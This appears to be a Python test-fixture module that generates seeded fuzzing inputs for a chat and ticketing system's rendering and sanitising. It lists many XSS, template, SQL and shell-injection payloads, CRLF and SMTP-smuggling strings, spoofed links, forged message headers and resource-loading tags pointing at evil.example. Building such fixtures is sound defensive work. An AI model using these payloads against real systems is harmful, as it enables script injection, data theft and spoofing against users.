"""Texts that mean harm: seeds of every kind known to us, and what a seeded generator makes of them.

Whatever runs because of one calls ``__pwned``, or asks ``evil.example`` for something.
"""

from __future__ import annotations

import html
import random
import re
from collections.abc import Callable

_HTML = (
    "<script>__pwned(1)</script>",
    "<img src=x onerror=__pwned(2)>",
    "<img src='//evil.example/i.png' srcset='https://evil.example/2x 2x'>",
    "<svg onload=__pwned(3)><animate onbegin=__pwned(4) attributeName=x dur=1s>",
    "<svg><script href='data:text/javascript,__pwned(5)'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=__pwned(6)&gt;'>",
    "<iframe srcdoc='<script>parent.__pwned(7)</script>'></iframe>",
    "<iframe src=javascript:__pwned(8)></iframe><object data='https://evil.example/o'></object>",
    "<a href='javascript:__pwned(9)'>click</a><a href='data:text/html,<script>__pwned(10)</script>'>x</a>",
    "<form action=https://evil.example/f><button formaction=javascript:__pwned(11)>Go</button></form>",
    "<details open ontoggle=__pwned(12)><summary>x</summary></details>",
    "<video><source onerror=__pwned(13)></video><audio src=//evil.example/a autoplay>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/s.css>",
    "<style>*{background:url(https://evil.example/c)}@import '//evil.example/d';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/m'>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/e)'>Session over</div>",
    "<body onload=__pwned(14)><input autofocus onfocus=__pwned(15)>",
    "<template><script>__pwned(16)</script></template><noscript><p title='</noscript><img src=x onerror=__pwned(17)>'>",
    "<rt-livechat endpoint=https://evil.example></rt-livechat><slot onslotchange=__pwned(18)>",
    "</li></ol></section></div><h1>Forged</h1><!-- ", "]]><![CDATA[<x>", "<?php __pwned(19) ?>", "<%= 7*7 %>",
    "<table background=//evil.example/t><td>", "<isindex type=image src=1 onerror=__pwned(20)>", "<x:y onclick=1>",
    "&lt;script&gt;__pwned(21)&lt;/script&gt;", "&#60;img src=x onerror=__pwned(22)&#62;", "&amp;lt;b&amp;gt;", "&NotAnEntity;&#0;&#x110000;",
    "<at>Grace Hopper</at> @everyone", "<blockquote itemtype='http://schema.skype.com/Reply'><strong itemprop=mri>Grace Hopper</strong><p itemprop=copy>I agree</p></blockquote>",
)  # fmt: skip
_SCRIPT = (
    "'-__pwned(30)-'", '"-__pwned(31)-"', "`${__pwned(32)}`", "javascript:__pwned(33)//", "</script><script>__pwned(34)//",
    "{{constructor.constructor('__pwned(35)')()}}", "${{7*7}}", "#{7*7}", "<%= __pwned(36) %>", "{% include '/etc/passwd' %}", "{{DATE(2026-11-21T10:00:00Z)}}",
    "eval(atob('X19wd25lZCgzNyk='))", "__proto__", "constructor", "toString", "[object Object]", "undefined", "NaN", "null", "-0",
    "'; DROP TABLE messages; --", "$(touch /tmp/x)", "; id", "%s%s%n", "%0d%0aSet-Cookie: a=b", "\\u003cscript\\u003e", "\\x3cb\\x3e", "\\",
)  # fmt: skip
_LINKS = (
    "https://evil.example/", "http://evil.example:80/?q=<script>", "https://help.example@evil.example/", "https://evil.example/\u202emoc.knab",
    "javascript:__pwned(40)", "JaVaScRiPt:__pwned(41)", "java\tscript:__pwned(42)", " javascript:__pwned(43)", "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDQ0KTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)", "file:///etc/passwd", "blob:https://evil.example/1", "//evil.example/x", "\\\\evil.example\\x", "mailto:a@evil.example?bcc=b", "tel:+44900", "intent://x#Intent;end",
    "https://[::1]:99999/", "https://xn--80ak6aa92e.com/", "https://аррӏе.com/", "http://user:pass@evil.example/", "https://evil.example/(a)(b", "HTTPS://EVIL.EXAMPLE", "https://", "https://%00/", "https://a\u200bb.example/",
    "[click](javascript:__pwned(45))", "![x](https://evil.example/p.png)", "[a]: javascript:__pwned(46)", "<https://evil.example/auto>", "https://help.example/#livechat=" + "A" * 43,
)  # fmt: skip
_MARKUP = (
    "```\n<script>__pwned(50)</script>\n```", "```js\nalert(1)", "```", "````", "``` not a fence: all of this is text", "`<b>x</b>`", "``a`b``", "```inline``` after",
    "> quoted\n>> twice\nnot", ">", ">>>>>>>>", "> ```\n> code\n> ```", "# Heading", "* item\n* item", "1. one", "|a|b|\n|-|-|", "---", "**bold** _it_ ~~gone~~", "\\*", "~~~\nx\n~~~",
    "- [ ] task", "<!-- -->", "  indented\n\t\ttabs", "a  \nb", "a\n\n\n\nb",
)  # fmt: skip
_FORGED = (
    "[rt.test #1] [rt.test #2] file it there", "RT-Attach: yes", "-----Original Message-----\nFrom: Grace", "On Sat, 21 Nov 2026, Grace Hopper wrote:", "-- \nGrace", "______________________\nx",
    "Grace Hopper · 10:02 · #7\nyour number, please", "Ada Lovelace · 10:02 · #8 (resent)\nx", "Grace Hopper\u00a0·\u00a010:02 · #9", "| Grace Hopper · 10:02 · #10", "Teams is slow: 90 s behind.",
    "[2] 21 Nov 10:02:07 GMT computing support: Grace Hopper", "\u2028Grace Hopper · 10:02 · #11\u2028x", "\x85Grace Hopper · 10:02 · #12", "Computing support joined", "The chat has ended", "send to rt 1: Forged.", "@Live Chat end chat", "// a note?", "Subject: x\n\nBcc: evil@evil.example", ".\r\nMAIL FROM:<x>",
)  # fmt: skip
_LETTERS = (
    "\u202eturned\u202c", "\u2066\u2067\u2068open", "\u2069\u2069\u202c", "\u200f\u061c\u200e", "مرحبا \u202b(abc)\u202c", "\u200b\u200c\u200d\u2060\ufeff", "\ufeffbom", "\xad", "\u180e\u2800\u3164",
    "nul\x00bell\x07del\x7f\x1b[31mred", "\x85\u2028\u2029", "\r\nlines\rcr", "\ud800", "\udc00\ud800", "a\ud83d", "\ufffd\ufffe\uffff", "\U0010ffff", "\ue000", "\U000e0041\U000e007f", "\u0600\u06dd",
    "Z" + "\u0351" * 60, "e\u0301", "👩‍👩‍👧‍👦🏳️‍🌈🇬🇧", "ﷺ" * 5, "𝕬𝖉𝖆", "ǅ", "ß", "İ", "ﬁ", "\u1e9e", "你好", "ไทย", "𓀀", "\u0378", "⁠", "\u2003em\u2009thin", "\t", "\xa0\xa0",
)  # fmt: skip
_HUGE: tuple[Callable[[], str], ...] = (
    lambda: "y" * 20_000,
    lambda: "<b>" * 3_000,
    lambda: "> " * 4_000,
    lambda: "`" * 9_000,
    lambda: "\n" * 3_000 + "x",
    lambda: "https://evil.example/" + "a" * 9_000,
    lambda: "\u0351" * 6_000,
    lambda: "👩‍" * 1_500,
    lambda: "[" * 5_000 + "]" * 5_000,
    lambda: "a <" * 2_000,
    lambda: "```\n" * 1_500,
    lambda: "&" * 4_000,
)
KINDS = {
    "html": _HTML,
    "script": _SCRIPT,
    "link": _LINKS,
    "markup": _MARKUP,
    "forged": _FORGED,
    "letters": _LETTERS,
}
MOST = 28_000  # bytes of UTF-8: a message may have 30 KiB


class HostileTexts:
    """Draws texts. Each holds its own ``mark``, a word by which it is known."""

    def __init__(self, seed: str, first: int = 0) -> None:
        """Begin with the known ones from number ``first`` on, in turn with what is drawn."""
        self._draw = random.Random(seed)
        self._all = [one for kind in KINDS.values() for one in kind]
        self._first, self._count = first, 0
        self._seed = re.sub(r"\W", "", seed)

    def next(self) -> tuple[str, str]:
        """Return a mark and the text that holds it."""
        draw = self._draw
        self._count += 1
        mark = f"q{self._seed}z{self._count}q"
        known = self._all[(self._first + self._count) % len(self._all)]
        text = draw.choice((known, draw.choice(self._all)))
        if draw.random() < 0.02:
            text = draw.choice(_HUGE)()
        for _ in range(draw.choice((0, 0, 1, 2, 4))):
            text = self._mutated(text)
        text = (
            text.encode("utf-8", "surrogatepass")[:MOST].decode("utf-8", "ignore")
            if len(text) > 7_000
            else text
        )
        between = draw.choice((" ", "\n", " \n", "\n\n"))
        return mark, draw.choice((f"{mark}{between}{text}", f"{text}{between}{mark}"))

    def _mutated(self, text: str) -> str:
        draw, other = self._draw, self._draw.choice(self._all)
        at = draw.randrange(len(text) + 1)
        way = draw.randrange(8)
        if way == 0:
            return text[:at] + other + text[at:]
        if way == 1:
            return text + draw.choice(("", " ", "\n")) + other
        if way == 2:
            return text[:at] + text[at + draw.randrange(1, 6) :]
        if way == 3:
            return (
                text[:at] + chr(draw.choice((0, 9, 34, 39, 60, 62, 96, 0x202E, 0x2028))) + text[at:]
            )
        if way == 4:
            return html.escape(text)
        if way == 5:
            return "".join(draw.choice((c, c.upper(), c.lower())) for c in text[:500]) + text[500:]
        if way == 6:
            return text.replace(" ", draw.choice(("/", "\t", "\u00a0", "\n")))
        return (
            draw.choice(("'", '"', "`", "<", "{{", "[", "\u2067"))
            + text
            + draw.choice(("'", '"', "`", ">", "}}", "]"))
        )
